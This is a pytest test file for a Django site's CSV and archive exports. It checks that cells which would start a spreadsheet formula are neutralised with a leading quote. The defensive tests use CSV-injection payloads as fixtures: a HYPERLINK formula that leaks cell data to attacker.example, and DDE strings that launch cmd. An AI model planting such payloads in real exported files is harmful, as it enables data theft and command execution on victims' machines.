"""No CSV cell runs as a formula: every text column of every download and of the
archive gives stored text that would start a formula (`=`, `+`, `-`, `@`, tab, carriage
return) behind a single quote, and everything else as it is. The XSS corpus and formula
payloads are stored in every text field (`tests/xss_payloads.py`), once for the module."""

import json
import zipfile

import pytest
from django.db import connection, transaction

from exports import archive, columns
from exports.writers import FORMULA_STARTS, cell, neutralised
from tests import xss_payloads
from tests.xss_payloads import Payload

from .reading import csv_rows, json_of

pytestmark = pytest.mark.django_db

FORMULAS = [
    Payload("formula", text)
    for text in (
        '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=1+1",
    )
]


@pytest.fixture(scope="module")
def rows(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock(), transaction.atomic():
        yield xss_payloads.store([*FORMULAS, *xss_payloads.storable(connection.vendor)])
        transaction.set_rollback(True)


def inert(cells):
    """The cells that a spreadsheet would run."""
    return [value for value in cells if value.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("1-1", "1-1"),
        ("'=1", "'=1"),
        (" =1", " =1"),
        ("", ""),
        ("Khalafov", "Khalafov"),
    ],
)
def test_a_cell_that_would_start_a_formula_starts_with_a_quote(value, shown):
    assert neutralised(value) == shown


@pytest.mark.parametrize("shape", ["meetings", "participants"])
def test_every_cell_of_the_meeting_downloads_is_the_json_value_made_inert(client, rows, shape):
    as_json = json_of(client.get("/en/open-data/meetings.json", {"rows": shape}))
    as_csv = csv_rows(client.get("/en/open-data/meetings.csv", {"rows": shape}))

    assert len(as_csv) == len(as_json) >= len(rows)
    for row, cells in zip(as_json, as_csv, strict=True):
        assert cells == {name: neutralised(cell(value)) for name, value in row.items()}
        assert inert(cells.values()) == []


def test_formula_payloads_come_back_quoted_in_every_text_column(client, rows):
    meetings = csv_rows(client.get("/en/open-data/meetings.csv"))
    participants = csv_rows(client.get("/en/open-data/meetings.csv", {"rows": "participants"}))
    by_slug = {cells["slug"]: cells for cells in meetings}
    for row in rows[: len(FORMULAS)]:
        meeting = by_slug[row.meeting.slug]
        stored = {
            "title": row.meeting.title,
            "venue": row.meeting.venue,
            "city": row.meeting.city,
            "summary": row.meeting.summary,
            "organizer_name": row.organization.name,
            "topics": row.topic.name,
            "mentioned_people": row.person.name,
            "participants": "; ".join(str(participant) for participant in row.participants),
        }
        for name, value in stored.items():
            assert meeting[name] == "'" + value, name
        theirs = [cells for cells in participants if cells["meeting"] == row.meeting.slug]
        assert len(theirs) == len(row.participants)
        for cells, participant in zip(theirs, row.participants, strict=True):
            assert cells["meeting_title"] == "'" + row.meeting.title
            assert cells["reported_name"] == neutralised(participant.reported_name)
            assert cells["reported_title"] == "'" + participant.reported_title
        assert (theirs[0]["name"], theirs[0]["post_title"]) == (
            "'" + row.person.name,
            "'" + row.post.title,
        )
        assert theirs[0]["post_organization_name"] == "'" + row.organization.name


def test_every_cell_of_the_archive_is_inert(rows, open_data_dir):
    built, _, _ = archive.build("http://testserver", keep=1)

    with zipfile.ZipFile(built.path) as zipped:
        tables = {
            table.filename: csv_rows(zipped.read(table.filename).decode())
            for table in columns.ARCHIVE_TABLES
        }
        popolo = json.loads(zipped.read("popolo.json"))
    for filename, table in tables.items():
        assert table, filename
        for cells in table:
            assert inert(cells.values()) == [], filename
    people = {cells["slug"]: cells for cells in tables["people.csv"]}
    persons = {person["id"]: person for person in popolo["persons"]}
    for row in rows:
        name = row.person.name
        shown = "'" + name if name.startswith(FORMULA_STARTS) else name
        assert people[row.person.slug]["name"] == shown
        assert people[row.person.slug]["summary"] == neutralised(row.person.summary)
        assert persons[row.person.slug]["name"] == name
    articles = {cells["slug"]: cells for cells in tables["articles.csv"]}
    for row in rows[: len(FORMULAS)]:
        assert articles[row.translation.slug]["body"] == "'" + row.payload.text
        assert articles[row.translation.slug]["byline"].startswith("'")
